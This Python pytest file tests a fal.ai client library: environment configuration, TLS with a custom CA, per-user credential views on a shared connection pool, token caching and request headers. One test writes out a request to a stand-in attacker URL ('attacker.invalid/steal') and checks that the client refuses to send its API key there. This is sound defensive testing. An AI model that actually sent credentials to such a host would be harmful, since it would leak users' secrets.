"""FalClient: configuration from the environment, TLS, per-user views, and the shared request headers."""

from __future__ import annotations

import json
import socket
import threading
import time
from collections.abc import Iterator
from pathlib import Path

import anyio
import pytest
import uvicorn
from starlette.applications import Starlette
from starlette.requests import Request
from starlette.responses import JSONResponse
from starlette.routing import Route

from fal_mcp.emulator.server import EmulatorServer
from fal_mcp.fal._http import fal_headers
from fal_mcp.fal.auth import credentials_from_key
from fal_mcp.fal.client import FalClient
from fal_mcp.fal.errors import FalConnectionError, FalError, NotConfiguredError
from fal_mcp.fal.hosts import FalHosts
from fal_mcp.fal.retry import RetryMode
from tests.emulators import FAST
from tests.fal.conftest import FAST_RETRY, TEST_KEY, make_client

pytestmark = pytest.mark.anyio


class EchoServer:
    """A loopback HTTP server that answers every POST with the Authorization header it received."""

    def __init__(self) -> None:
        async def echo(request: Request) -> JSONResponse:
            await anyio.sleep(0.01)  # let concurrent requests overlap
            return JSONResponse({"authorization": request.headers.get("authorization")})

        app = Starlette(routes=[Route("/{path:path}", echo, methods=["POST"])])
        self._sock = socket.socket()
        self._sock.bind(("127.0.0.1", 0))
        self.base_url = f"http://127.0.0.1:{self._sock.getsockname()[1]}"
        self._server = uvicorn.Server(uvicorn.Config(app, log_config=None, access_log=False, lifespan="off"))
        self._thread = threading.Thread(target=self._server.run, kwargs={"sockets": [self._sock]}, daemon=True)

    def __enter__(self) -> EchoServer:
        self._thread.start()
        while not self._server.started:
            time.sleep(0.005)
        return self

    def __exit__(self, *exc_info: object) -> None:
        self._server.should_exit = True
        self._thread.join(timeout=5)
        self._sock.close()


@pytest.fixture
def echo() -> Iterator[EchoServer]:
    with EchoServer() as server:
        yield server


async def test_from_env_points_everything_at_the_configured_fal(emulator: EmulatorServer) -> None:
    env = {"FAL_MCP_BASE_URL": emulator.base_url, "FAL_KEY": TEST_KEY}
    async with FalClient.from_env(env, retry=FAST_RETRY) as fal:
        assert fal.hosts == FalHosts.for_base_url(emulator.base_url)
        assert fal.http.retry is FAST_RETRY  # overrides win
        handle, output = await fal.queue.subscribe("emulator/slow", {"seconds": 1, "case": "from_env"})
        assert output["seconds"] == 1 and handle.response_url.startswith(emulator.base_url + "/queue/")
        assert "test-key-secret" not in repr(fal) and "REDACTED" in repr(fal)
    assert fal.http.client.is_closed  # async with closed the pool it owned


async def test_without_a_key_keyless_calls_work_and_the_rest_say_how_to_fix(emulator: EmulatorServer) -> None:
    async with FalClient.from_env({"FAL_MCP_BASE_URL": emulator.base_url}) as fal:
        assert fal.credentials is None
        page = await fal.catalog.search(query="flux")
        assert any(m.endpoint_id == "fal-ai/flux/dev" for m in page.models)
        sent = fal.http.requests_sent
        with pytest.raises(NotConfiguredError, match="FAL_KEY") as caught:
            await fal.queue.submit("emulator/slow", {"seconds": 1})
        assert "fal.ai/dashboard/keys" in caught.value.message
        with pytest.raises(NotConfiguredError):
            await fal.runs.run("emulator/slow", {"seconds": 1})
        assert fal.http.requests_sent == sent  # refused before anything was sent


async def test_unexpanded_key_template_is_reported(emulator: EmulatorServer) -> None:
    env = {"FAL_MCP_BASE_URL": emulator.base_url, "FAL_KEY": "${FAL_KEY}"}
    async with FalClient.from_env(env) as fal:
        with pytest.raises(NotConfiguredError, match="placeholder"):
            await fal.queue.submit("emulator/slow", {})


async def test_custom_ca_bundle_from_env(tmp_path: Path) -> None:
    with EmulatorServer(FAST, tls_dir=tmp_path) as server:
        assert server.base_url.startswith("https://")
        env = {"FAL_MCP_BASE_URL": server.base_url, "FAL_KEY": TEST_KEY, "FAL_MCP_CA_FILE": str(server.tls.ca_cert)}
        async with FalClient.from_env(env, retry=FAST_RETRY) as fal:
            assert (await fal.runs.run("emulator/slow", {"seconds": 1})).data["seconds"] == 1
            assert (await fal.realtime.run_many("fal-ai/fast-lcm-diffusion", [{"prompt": "tls"}]))[0]["prompt"] == "tls"
        env.pop("FAL_MCP_CA_FILE")
        async with FalClient.from_env(env, retry=FAST_RETRY) as fal:
            with pytest.raises(FalConnectionError, match=r"CERTIFICATE_VERIFY_FAILED|certificate"):
                await fal.runs.run("emulator/slow", {"seconds": 1})


async def test_per_user_views_share_the_pool_but_never_the_key(echo: EchoServer) -> None:
    hosts = FalHosts.for_base_url(echo.base_url)
    base = FalClient(credentials=credentials_from_key("server-key-id:server-secret-000"), hosts=hosts)
    alice = base.with_credentials(credentials_from_key("alice-key-id:alice-secret-111"))
    bob = base.with_credentials(credentials_from_key("bob-key-id:bob-secret-222"))
    assert alice.http.client is base.http.client is bob.http.client
    assert alice.catalog.cache is base.catalog.cache

    seen: dict[str, list[str]] = {"base": [], "alice": [], "bob": []}

    async def call(name: str, fal: FalClient) -> None:
        seen[name].append((await fal.runs.run("some/app", {"who": name})).data["authorization"])

    async with anyio.create_task_group() as tg:
        for _ in range(5):
            for name, fal in (("base", base), ("alice", alice), ("bob", bob)):
                tg.start_soon(call, name, fal)
    assert set(seen["base"]) == {"Key server-key-id:server-secret-000"}
    assert set(seen["alice"]) == {"Key alice-key-id:alice-secret-111"}
    assert set(seen["bob"]) == {"Key bob-key-id:bob-secret-222"}

    await alice.aclose()  # a view never closes the shared pool
    assert (await bob.runs.run("some/app", {})).data["authorization"] == "Key bob-key-id:bob-secret-222"
    await base.aclose()
    assert base.http.client.is_closed


async def test_the_key_only_goes_to_configured_fal_hosts(fal: FalClient) -> None:
    with pytest.raises(FalError, match="refusing to send the fal key"):
        await fal.http.request("GET", "http://attacker.invalid/steal", mode=RetryMode.IDEMPOTENT)
    assert fal.http.requests_sent == 0


async def test_realtime_tokens_are_per_credentials(emulator: EmulatorServer) -> None:
    async with make_client(emulator) as fal:
        other = fal.with_credentials(credentials_from_key("other-key-id:other-secret-333"))
        await fal.realtime.token("fal-ai/fast-lcm-diffusion")
        await fal.realtime.token("fal-ai/fast-lcm-diffusion")
        assert fal.http.requests_sent == 1  # cached for this key…
        await other.realtime.token("fal-ai/fast-lcm-diffusion")
        assert other.http.requests_sent == 1  # …but another key asks for its own


def test_fal_headers() -> None:
    headers = fal_headers(
        start_timeout=30,
        hint="lora:a",
        priority="low",
        store_io=False,
        object_lifecycle={"expiration_duration_seconds": 60},
        extra_headers={"X-Custom": "1", "authorization": "Key nope", "X-Fal-Runner-Hint": "overridden"},
    )
    assert headers == {
        "X-Custom": "1",
        "X-Fal-Request-Timeout": "30.0",
        "X-Fal-Runner-Hint": "lora:a",
        "X-Fal-Queue-Priority": "low",
        "X-Fal-Store-IO": "0",
        "X-Fal-Object-Lifecycle-Preference": json.dumps({"expiration_duration_seconds": 60}, separators=(",", ":")),
    }
    assert fal_headers(store_io=True) == {"X-Fal-Store-IO": "1"}
    assert fal_headers() == {}
    for bad in (1, 0.5, -3):
        with pytest.raises(ValueError, match="more than 1 second"):
            fal_headers(start_timeout=bad)
